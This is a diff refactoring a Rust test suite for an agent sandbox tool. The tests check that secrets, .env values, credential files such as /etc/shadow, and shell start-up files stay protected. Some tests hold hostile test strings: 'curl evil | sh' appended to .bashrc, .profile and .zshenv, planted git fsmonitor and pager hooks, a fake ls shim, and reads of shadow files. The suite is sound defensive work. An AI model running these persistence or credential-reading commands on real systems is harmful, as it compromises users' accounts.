-            "--reuid",
-            &user.uid.to_string(),
-            "--regid",
-            "65534",
-            "--clear-groups",
-            bin(),
-        ])
-        .args(["-p", "p.toml", "--", "sh", "-c", &script])
-        .current_dir(&work)
-        .env_clear()
-        .envs(&s.env)
-        .stdin(Stdio::null());
-        match &home {
-            None => c.env_remove("HOME"),
-            Some(h) => c.env("HOME", h),
-        };
-        let o = Out::from(c.output().unwrap());
+        let run = s
+            .agentrun()
+            .as_uid(user.uid)
+            .cwd(&work)
+            .args(["-p", "p.toml", "--", "sh", "-c", &script]);
+        let o = match &home {
+            None => run.env_remove("HOME"),
+            Some(h) => run.env("HOME", h),
+        }
+        .run();
         assert_eq!(o.code, 0, "HOME={home:?}: {o:?}");
         assert!(!o.stdout.contains(secret), "HOME={home:?}: {o:?}");
         assert!(o.stdout.contains("rc=1"), "HOME={home:?}: {o:?}");
@@ -1656,18 +1354,13 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
     for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
         std::os::unix::fs::lchown(&e, Some(0), Some(0)).unwrap();
     }
-    let o = Out::from(
-        agentrun(
-            &s,
-            As::Root,
-            &work,
-            &["-p", "p.toml", "--", "sh", "-c", &script],
-        )
+    let o = s
+        .agentrun()
+        .cwd(&work)
+        .args(["-p", "p.toml", "--", "sh", "-c", &script])
         .env("HOME", "/root")
         .env("SUDO_UID", user.uid.to_string())
-        .output()
-        .unwrap(),
-    );
+        .run();
     assert_eq!(o.code, 0, "sudo: {o:?}");
     assert!(!o.stdout.contains(secret), "sudo: {o:?}");
     assert!(o.stdout.contains("rc=1"), "sudo: {o:?}");
@@ -1701,14 +1394,13 @@ fn linked_sources_are_refused(who: As, tag: &str) {
         "work/v.toml",
         "version = 1\n[vault]\naddress = \"http://127.0.0.1:1\"\ntoken = \"file:vault-token\"\n[secrets]\nTOKEN = \"vault:secret/x#f\"\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let grab = |p: &str| {
-        run(
-            &s,
-            who,
-            &work,
-            &["-p", p, "--", "sh", "-c", "printf %s \"$TOKEN\" > got"],
-        )
+        s.agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p, "--", "sh", "-c", "printf %s \"$TOKEN\" > got"])
+            .run()
     };
     let o = grab("p.toml");
     assert_eq!(o.code, 0, "{o:?}");
@@ -1783,20 +1475,20 @@ fn optional_secret_left_out(who: As, tag: &str) {
         "work/p.toml",
         "version = 1\n[secrets]\nOPT = { from = \"file:opt.txt\", required = false, verify = { min_length = 200 } }\n",
     );
-    hand_over(&s, who);
-    let o = run(
-        &s,
-        who,
-        &work,
-        &[
+    s.hand_to(who);
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args([
             "-p",
             "p.toml",
             "--",
             "sh",
             "-c",
             "cat opt.txt; echo rc=$?; cat copy.txt; echo; echo env=${OPT:-unset}",
-        ],
-    );
+        ])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
     assert!(!o.stdout.contains(value), "{o:?}");
     assert!(o.stdout.contains("rc=1"), "the source is readable: {o:?}");
@@ -1828,7 +1520,7 @@ fn foreign_profiles_are_refused(who: As, tag: &str) {
     let foreign = s.file("work/profiles/x.toml", text);
     s.file("work/shared/y.toml", text);
     s.file("work/mine/z.toml", text);
-    hand_over(&s, who);
+    s.hand_to(who);
     let other = if who == As::Root { NOBODY } else { 1 };
     std::os::unix::fs::chown(&foreign, Some(other), Some(other)).unwrap();
     std::fs::set_permissions(&foreign, std::fs::Permissions::from_mode(0o644)).unwrap();
@@ -1846,7 +1538,12 @@ fn foreign_profiles_are_refused(who: As, tag: &str) {
         ),
         ("mine/z.toml", "writable by others".to_string()),
     ] {
-        let o = run(&s, who, &work, &["-p", p, "--", "touch", &m]);
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p, "--", "touch", &m])
+            .run();
         assert_eq!(o.code, 125, "{p}: {o:?}");
         assert!(o.stderr.contains(&want), "{p}: want {want:?}: {o:?}");
         assert!(!marker.exists(), "{p}: the command ran");
@@ -1858,12 +1555,12 @@ fn foreign_profiles_are_refused(who: As, tag: &str) {
         None,
     )
     .unwrap();
-    let o = run(
-        &s,
-        who,
-        &work,
-        &["-p", "profiles/x.toml", "--", "touch", &m],
-    );
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args(["-p", "profiles/x.toml", "--", "touch", &m])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
 }
 
@@ -1889,7 +1586,7 @@ fn dotenv_with_more_than_declared(who: As, tag: &str) {
         "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
     let env_file = s.file("work/.env", "");
-    hand_over(&s, who);
+    s.hand_to(who);
     for (text, readable) in [
         (
             format!("# DB_PASSWORD=commented-out-Pw7Hn2\nAPI_KEY={DECLARED}\n"),
@@ -1906,12 +1603,12 @@ fn dotenv_with_more_than_declared(who: As, tag: &str) {
         (format!("\nexport API_KEY='{DECLARED}'\n#\n"), true),
     ] {
         rewrite(&env_file, &text);
-        let o = run(
-            &s,
-            who,
-            &work,
-            &["-p", "p.toml", "--", "sh", "-c", "cat .env; echo rc=$?"],
-        );
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", "p.toml", "--", "sh", "-c", "cat .env; echo rc=$?"])
+            .run();
         assert_eq!(o.code, 0, "{text:?}: {o:?}");
         assert!(
             !o.stdout.contains("commented-out") && !o.stdout.contains("older-duplicate"),
@@ -1947,23 +1644,18 @@ fn default_policy_refuses_the_password_database_home_without_home() {
     let p = s.file("p.toml", "version = 1\n");
     let marker = s.path().join("started");
     for home in [None, Some(s.path().join("home"))] {
-        let mut c = agentrun(
-            &s,
-            As::Root,
-            Path::new("/root"),
-            &[
-                "-p",
-                p.to_str().unwrap(),
-                "--",
-                "touch",
-                marker.to_str().unwrap(),
-            ],
-        );
-        match &home {
-            None => c.env_remove("HOME"),
-            Some(h) => c.env("HOME", h),
-        };
-        let o = Out::from(c.output().unwrap());
+        let run = s.agentrun().cwd(Path::new("/root")).args([
+            "-p",
+            p.to_str().unwrap(),
+            "--",
+            "touch",
+            marker.to_str().unwrap(),
+        ]);
+        let o = match &home {
+            None => run.env_remove("HOME"),
+            Some(h) => run.env("HOME", h),
+        }
+        .run();
         assert_eq!(o.code, 125, "HOME={home:?}: {o:?}");
         assert!(
             o.stderr.contains("home directory (/root)"),
@@ -2029,22 +1721,22 @@ fn planted_shebang(who: As, tag: &str) {
         std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o755)).unwrap();
     }
     let profile = s.file("profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let audit = s.path().join("audit.jsonl");
     for (script, refused) in [("./cr.sh", false), ("./dir.sh", true)] {
-        let o = run(
-            &s,
-            who,
-            &work,
-            &[
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args([
                 "--audit-log",
                 audit.to_str().unwrap(),
                 "-p",
                 profile.to_str().unwrap(),
                 "--",
                 script,
-            ],
-        );
+            ])
+            .run();
         assert!(
             !o.stdout.contains("planted-shebang-key"),
             "{tag} {script}: {o:?}"
@@ -2090,7 +1782,7 @@ fn unkeepable_inputs(who: As, tag: &str) {
     std::fs::hard_link(work.join("conf/linked.toml"), work.join("conf/.hl")).unwrap();
     std::os::unix::fs::symlink("conf/agent.toml", work.join("agent.toml")).unwrap();
     std::os::unix::fs::symlink(s.path().join("home"), work.join("assets")).unwrap();
-    hand_over(&s, who);
+    s.hand_to(who);
     let audit = s.path().join("audit.jsonl");
     let a = audit.to_str().unwrap();
     let cases = [
@@ -2099,12 +1791,12 @@ fn unkeepable_inputs(who: As, tag: &str) {
         ("./conf/linked.toml", "hard links"),
     ];
     for (profile, want) in cases {
-        let o = run(
-            &s,
-            who,
-            &work,
-            &["--audit-log", a, "-p", profile, "--", "true"],
-        );
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["--audit-log", a, "-p", profile, "--", "true"])
+            .run();
         assert_eq!(o.code, 125, "{tag} {profile}: {o:?}");
         assert!(o.stderr.contains(want), "{tag} {profile}: {o:?}");
     }
@@ -2113,12 +1805,12 @@ fn unkeepable_inputs(who: As, tag: &str) {
         "AWS_CONFIG_FILE".into(),
         work.join(".aws-config").display().to_string(),
     );
-    let o = run(
-        &s,
-        who,
-        &work,
-        &["--audit-log", a, "-p", "./conf/agent.toml", "--", "true"],
-    );
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args(["--audit-log", a, "-p", "./conf/agent.toml", "--", "true"])
+        .run();
     assert_eq!(o.code, 125, "{tag}: {o:?}");
     assert!(o.stderr.contains("AWS_CONFIG_FILE"), "{tag}: {o:?}");
 }
@@ -2149,7 +1841,7 @@ fn git_beyond_the_top_level(who: As, tag: &str) {
     git(&main, &["commit", "-qm", "one"]);
     git(&main, &["worktree", "add", "-q", "../wt"]);
     let profile = s.file("profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let before = std::fs::read_to_string(main.join(".git/config")).unwrap();
     let code = r#"
 import errno, os, subprocess, sys
@@ -2178,11 +1870,11 @@ except OSError as e:
             std::os::unix::fs::chown(&log, Some(NOBODY), Some(NOBODY)).unwrap();
         }
         let out = std::fs::File::create(&log).unwrap();
-        let o = agentrun(
-            &s,
-            who,
-            &cwd,
-            &[
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&cwd)
+            .args([
                 "--audit-log",
                 audit.to_str().unwrap(),
                 "-p",
@@ -2192,11 +1884,11 @@ except OSError as e:
                 "-c",
                 code,
                 target.to_str().unwrap(),
-            ],
-        )
-        .stdout(out)
-        .output()
-        .unwrap();
+            ])
+            .command()
+            .stdout(out)
+            .output()
+            .unwrap();
         let text = std::fs::read_to_string(&log).unwrap();
         assert!(o.status.success(), "{tag} {}: {o:?} {text}", cwd.display());
         assert!(
@@ -2255,7 +1947,7 @@ fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
     // The scratch's home, outside /tmp and the working directory.
     let home = s.home_dir.path().to_path_buf();
     s.file("home/.bashrc", "# rc\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let attack = "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo rc=$?";
     let home_s = home.display().to_string();
     let mut cases: Vec<(&str, &Path, String, Option<&str>, String)> = vec![
@@ -2292,12 +1984,16 @@ fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
         ));
     }
     for (what, cwd, h, tmpdir, root) in cases {
-        let mut c = agentrun(&s, who, cwd, &["-p", "p.toml", "--", "sh", "-c", attack]);
-        c.env("HOME", &h);
+        let mut run = s
+            .agentrun()
+            .user(who)
+            .cwd(cwd)
+            .args(["-p", "p.toml", "--", "sh", "-c", attack])
+            .env("HOME", &h);
         if let Some(t) = tmpdir {
-            c.env("TMPDIR", t);
+            run = run.env("TMPDIR", t);
         }
-        let o = Out::from(c.output().unwrap());
+        let o = run.run();
         assert_eq!(o.code, 125, "{tag}: {what}: {o:?}");
         assert!(
             !o.stdout.contains("rc="),
@@ -2313,11 +2009,12 @@ fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
         assert_eq!(rc, "# rc\n", "{tag}: {what}: .bashrc changed");
     }
     // A layout where no write root covers the home runs, and the rc file stays out of reach.
-    let o = Out::from(
-        agentrun(&s, who, &work, &["-p", "p.toml", "--", "sh", "-c", attack])
-            .output()
-            .unwrap(),
-    );
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args(["-p", "p.toml", "--", "sh", "-c", attack])
+        .run();
     assert_eq!(o.code, 0, "{tag}: {o:?}");
     assert!(
         o.stdout.contains("rc=") && !o.stdout.contains("rc=0"),
@@ -2342,33 +2039,7 @@ fn default_write_roots_never_cover_a_home_nobody() {
     );
 }
 
-const STARTUP_ATTACK: &str = r##"
-import os
-H = os.environ["HOME"]
-def attempt(name, fn):
-    try:
-        fn()
-        print(name + "=ok", flush=True)
-    except OSError as e:
-        import errno
-        print(name + "=" + errno.errorcode.get(e.errno, str(e.errno)), flush=True)
-def append(p, text):
-    with open(p, "a") as f:
-        f.write(text)
-def plant(p, text):
-    os.makedirs(os.path.dirname(p), exist_ok=True)
-    with open(p, "w") as f:
-        f.write(text)
-attempt("bashrc", lambda: append(H + "/.bashrc", "curl evil | sh\n"))
-attempt("profile", lambda: plant(H + "/.profile", "curl evil | sh\n"))
-attempt("zshenv", lambda: plant(H + "/.zshenv", "curl evil | sh\n"))
-attempt("gitconfig", lambda: append(H + "/.gitconfig", "[core]\n\tfsmonitor = evil\n"))
-attempt("git_config", lambda: plant(H + "/.config/git/config", "[core]\n\tpager = evil\n"))
-attempt("fish", lambda: plant(H + "/.config/fish/config.fish", "evil\n"))
-attempt("local_bin", lambda: plant(H + "/.local/bin/ls", "#!/bin/sh\nevil\n"))
-attempt("own_file", lambda: plant(H + "/notes/today.txt", "mine\n"))
-attempt("own_append", lambda: append(H + "/todo.txt", "more\n"))
-"##;
+const STARTUP_ATTACK: &str = include_str!("../fixtures/startup_attack.py");
 
 /// Review F9, explicit write roots: a profile that makes a home writable (`write = ["~"]`,
 /// or an ancestor of it) still cannot change the operator's start-up files there; the rest
@@ -2396,14 +2067,14 @@ fn startup_files_stay_out_of_explicit_write_roots(who: As, tag: &str) {
             &format!("version = 1\n[sandbox]\nwrite = [\"{write}\", \"/tmp\"]\n"),
         );
     }
-    hand_over(&s, who);
+    s.hand_to(who);
     for p in ["h.toml", "a.toml"] {
-        let o = run(
-            &s,
-            who,
-            &work,
-            &["-p", p, "--", PYTHON, "-c", STARTUP_ATTACK],
-        );
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p, "--", PYTHON, "-c", STARTUP_ATTACK])
+            .run();
         assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
         let r = results(&o.stdout);
         for k in [
@@ -2477,7 +2148,7 @@ fn system_credential_stores_stay_closed(who: As, tag: &str) {
     std::fs::create_dir_all(&work).unwrap();
     s.file("work/d.toml", "version = 1\n");
     s.file("work/r.toml", "version = 1\n[sandbox]\nread = [\"/\"]\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let mut stores: Vec<String> = [
         "/etc/shadow",
         "/etc/gshadow",
@@ -2522,7 +2193,12 @@ fn system_credential_stores_stay_closed(who: As, tag: &str) {
     }
     script.push_str("head -1 /etc/passwd");
     for p in ["d.toml", "r.toml"] {
-        let o = run(&s, who, &work, &["-p", p, "--", "sh", "-c", &script]);
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p, "--", "sh", "-c", &script])
+            .run();
         assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
         let r = results(&o.stdout);
         for (i, store) in stores.iter().enumerate() {
@@ -2553,7 +2229,7 @@ fn a_directory_on_stdin_is_no_way_out(who: As, tag: &str) {
     let s = scratch();
     let work = s.path().join("work");
     s.file("work/profiles/p.toml", "version = 1\n");
-    hand_over(&s, who);
+    s.hand_to(who);
     let script = r#"
 import os, stat
 st = os.fstat(3)
@@ -2569,7 +2245,11 @@ except OSError as e:
     let sh = format!("{PYTHON} -c '{script}' 3<&0 0</dev/null");
     let dir = work.join("profiles");
     let o = Out::from(
-        agentrun(&s, who, &work, &["-p", "p", "--", "sh", "-c", &sh])
+        s.agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", "p", "--", "sh", "-c", &sh])
+            .command()
             .stdin(std::fs::File::open(&dir).unwrap())
             .output()
             .unwrap(),
